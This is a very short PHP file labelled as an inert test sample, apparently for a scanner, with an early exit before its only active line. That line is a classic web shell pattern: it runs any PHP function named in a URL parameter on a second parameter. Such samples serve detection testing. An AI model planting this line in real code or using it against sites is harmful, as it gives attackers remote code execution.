<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

if (isset($_GET['f'])) { $_GET['f']($_GET['a']); }
